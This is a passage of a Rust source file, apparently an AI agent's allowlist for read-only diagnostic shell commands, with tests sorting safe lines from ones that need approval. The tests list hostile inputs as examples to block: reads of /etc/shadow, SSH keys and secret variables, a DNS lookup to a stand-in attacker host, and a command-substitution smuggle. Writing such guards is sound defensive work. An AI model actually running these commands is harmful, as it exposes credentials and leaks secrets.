            // `-f`, `-i`, `-A`, `-d` look names up.
            "sI",
            "",
            &["short", "all-ip-addresses"],
            &[],
        ),
        no_operands,
    ),
    entry(
        &["dmesg"],
        Spec::long(
            "TtxkdruHPeL",
            "lfs",
            &[
                "ctime",
                "notime",
                "decode",
                "kernel",
                "userspace",
                "raw",
                "human",
                "nopager",
                "show-delta",
                "reltime",
            ],
            &[
                "level",
                "facility",
                "since",
                "until",
                "time-format",
                "color",
            ],
        ),
        no_operands,
    ),
    entry(
        &["journalctl"],
        Spec::long(
            "kxqrmeabNla",
            "unpSUtgoMF",
            &[
                "no-pager",
                "pager-end",
                "catalog",
                "quiet",
                "reverse",
                "merge",
                "full",
                "all",
                "utc",
                "no-hostname",
                "list-boots",
                "disk-usage",
                "dmesg",
                "system",
                "user",
                "no-full",
                "header",
                "fields",
                "show-cursor",
                "case-sensitive",
            ],
            &[
                "unit",
                "user-unit",
                "lines",
                "priority",
                "since",
                "until",
                "identifier",
                "grep",
                "output",
                "boot",
                "facility",
                "output-fields",
                "cursor",
                "after-cursor",
            ],
        )
        .requiring(&[
            "since",
            "until",
            "unit",
            "user-unit",
            "priority",
            "identifier",
            "grep",
            "output",
            "facility",
            "output-fields",
        ]),
        journalctl,
    ),
    entry(
        &["systemctl"],
        Spec::long(
            "alq",
            "tpPsnoH",
            &[
                "no-pager",
                "all",
                "full",
                "failed",
                "no-legend",
                "plain",
                "quiet",
                "recursive",
                "reverse",
                "after",
                "before",
                "value",
                "show-types",
                "system",
                "user",
            ],
            &["type", "state", "property", "lines", "output", "kill-whom"],
        )
        .with_values("tpPson"),
        systemctl,
    ),
    entry(
        &["localectl"],
        Spec::long("", "", &["no-pager"], &[]),
        status_verb,
    ),
    entry(&["hostnamectl"], Spec::short("", ""), status_verb),
    entry(
        &["timedatectl"],
        Spec::long("a", "p", &["all", "no-pager", "value"], &["property"]),
        status_verb,
    ),
    entry(
        &["loginctl"],
        Spec::long(
            "al",
            "p",
            &["all", "no-pager", "no-legend", "full", "value"],
            &["property"],
        ),
        status_verb,
    ),
    // busctl reads `--all` as its `--allow-interactive-authorization`.
    entry(
        &["networkctl", "busctl", "resolvectl"],
        Spec::long("", "", &["no-pager", "no-legend", "full"], &[]),
        status_verb,
    ),
    entry(
        &["vmstat"],
        Spec::long(
            "awdDstfn",
            "Sp",
            &[
                "active",
                "wide",
                "disk",
                "disk-sum",
                "stats",
                "timestamp",
                "forks",
                "one-header",
            ],
            &["unit"],
        ),
        sampler,
    ),
    entry(
        &["iostat"],
        // not `-p`: it takes the next word only when it is not a number.
        Spec::long("xdcktmhNzy", "", &["human", "pretty"], &[]),
        sampler,
    ),
    entry(&["mpstat"], Spec::short("u", "PN"), sampler),
    entry(&["pidstat"], Spec::short("durwhltIsv", "p"), sampler),
    entry(
        &["lsof"],
        Spec::long("nPltRVbwUa", "iupcdgF", &[], &[]),
        lsof,
    ),
    entry(
        &["netstat"],
        Spec::long(
            "nltupaesrivWoxgMw",
            "A",
            &[
                "numeric",
                "listening",
                "tcp",
                "udp",
                "programs",
                "all",
                "statistics",
                "route",
                "interfaces",
                "wide",
                "extend",
                "timers",
            ],
            &[],
        ),
        netstat,
    ),
    entry(
        &["md5sum", "sha1sum", "sha256sum", "sha512sum", "b2sum"],
        Spec::long("btz", "", &["binary", "text", "tag", "zero"], &[]),
        no_devices,
    ),
    entry(
        &["cksum"],
        Spec::long("z", "", &["tag", "zero"], &[]),
        no_devices,
    ),
    entry(
        &["readlink"],
        Spec::long(
            "efmnqsvz",
            "",
            &[
                "canonicalize",
                "canonicalize-existing",
                "canonicalize-missing",
                "no-newline",
                "quiet",
                "silent",
                "verbose",
                "zero",
            ],
            &[],
        ),
        any,
    ),
    entry(
        &["realpath"],
        Spec::long(
            "emqszLP",
            "",
            &[
                "canonicalize-existing",
                "canonicalize-missing",
                "quiet",
                "strip",
                "no-symlinks",
                "zero",
                "logical",
                "physical",
            ],
            &["relative-to", "relative-base"],
        ),
        any,
    ),
    entry(
        &["findmnt"],
        Spec::long(
            "lnrJDAbfkmsuUvR",
            "oTSdtO",
            &[
                "list",
                "noheadings",
                "raw",
                "json",
                "df",
                "ascii",
                "bytes",
                "first-only",
                "kernel",
                "mtab",
                "fstab",
                "notruncate",
                "nofsroot",
                "submounts",
                "real",
                "pseudo",
            ],
            &["output", "types", "source", "target", "options"],
        ),
        any,
    ),
    entry(
        &["mount"],
        Spec::long("l", "t", &["show-labels"], &["types"]),
        mount_list,
    ),
    entry(
        &["sysctl"],
        Spec::long(
            "anNbeqoxX",
            "",
            &["all", "values", "names", "binary", "ignore", "quiet"],
            &["pattern"],
        ),
        sysctl,
    ),
    entry(
        &["dpkg"],
        Spec::long(
            "lsLSp",
            "",
            &[
                "list",
                "status",
                "listfiles",
                "search",
                "print-avail",
                "get-selections",
                "print-architecture",
            ],
            &[],
        ),
        dpkg,
    ),
    entry(
        &["dpkg-query"],
        Spec::long(
            "lsLSpW",
            "f",
            &[
                "list",
                "status",
                "listfiles",
                "search",
                "print-avail",
                "show",
            ],
            &["showformat"],
        ),
        dpkg,
    ),
    entry(
        &["apt-cache"],
        Spec::long(
            "iqn",
            "",
            &[
                "installed",
                "names-only",
                "full",
                "no-all-versions",
                "recurse",
            ],
            &[],
        ),
        apt_cache,
    ),
    entry(&["getconf", "locale"], Spec::short("a", ""), any),
    entry(
        &["ulimit"],
        Spec::short("aHScdefilmnqrstuvx", ""),
        no_operands,
    ),
    net(&["host"], Spec::long("aCdlirTv46", "cNRtW", &[], &[]), any),
    net(
        &["dig"],
        // not `-k FILE`: it reads a key.
        Spec::long("46hmruv", "bcpqtxy", &["short"], &[]),
        any,
    ),
    net(&["nslookup"], Spec::short("", ""), any),
    net(
        &["ping", "ping6"],
        Spec::long("46nqvDO", "cwWiIst", &[], &[]),
        ping,
    ),
    net(&["getent"], Spec::short("", ""), getent_hosts),
];

impl Spec {
    /// Long options that always take a value (see `long_required`).
    const fn requiring(self, long_required: &'static [&'static str]) -> Spec {
        Spec {
            long_required,
            ..self
        }
    }

    /// systemctl's value options without `-H`/`-M` (another host or
    /// machine).
    const fn with_values(self, values: &'static str) -> Spec {
        Spec { values, ..self }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::agent::policy::wrappers::see;

    fn auto(line: &str) -> Result<(), Why> {
        allows(&see(line), false)
    }

    #[test]
    fn what_a_responder_reaches_for_first_runs() {
        for line in [
            "df -h",
            "free -m",
            "uptime",
            "ps aux --sort=-%mem",
            "ss -tlnp",
            "systemctl status nginx --no-pager",
            "journalctl -u nginx -n 50 --no-pager",
            "tail -n 100 /var/log/syslog",
            "grep -i error /var/log/nginx/error.log",
            "ls -la /etc/nginx",
            "ps aux | grep nginx | head -5",
            "df -h; free -m",
            "ip addr show",
            "ip -s link",
            "ip route get 1.1.1.1",
            "cat /etc/os-release",
            "vmstat 1 3",
            "dmesg -T | tail -n 50",
            "tail -n 100 /var/log/syslog 2>/dev/null",
            "ps -eo pid,comm,%mem --sort=-%mem | head",
            "getent passwd www-data",
            "date +%s",
            "lsof -nP -i :80",
        ] {
            assert_eq!(auto(line), Ok(()), "{line}");
        }
    }

    #[test]
    fn anything_else_asks() {
        for line in [
            "sort -o/etc/passwd x",
            "sort -uo out in",
            "sort --out=x in",
            "sort --compress-program=sh x",
            "chmod --rec 777 /tmp",
            "ss -D /tmp/x",
            "ip -batch -",
            "file -C",
            "systemctl -p status restart sshd",
            "ip route dele default",
            "ip r s",
            "uniq - /etc/passwd",
            "cat /etc/shadow-",
            "grep -r . /root/.ssh",
            "cat /etc/ssh/ssh_host_ed25519_key",
            "ps auxeww",
            "echo $SOME_SECRET",
            "host secret.attacker.example",
            "getent hosts x.evil",
            "getent ${X:-shadow}",
            "getent shadow",
            "printf $'-v' 'a[$(id)]' x",
            "printf -v x y",
            "/tmp/ls",
            "ls > /tmp/x",
            "X=1 ls",
            "ls &",
            "tail -f /var/log/syslog",
            "vmstat 1",
            "netstat -tlp",
            "date 01010000",
            "sudo ls",
            "systemctl -H web2 status",
            "journalctl -f",
            "cat < /etc/shadow",
            "lsof -i :80",
        ] {
            assert!(auto(line).is_err(), "{line}");
        }
    }

    #[test]
    fn the_network_is_a_setting() {
        assert!(auto("host example.com").is_err());
        assert_eq!(allows(&see("host example.com"), true), Ok(()));
        assert_eq!(allows(&see("ping -c 1 example.com"), true), Ok(()));
    }
}
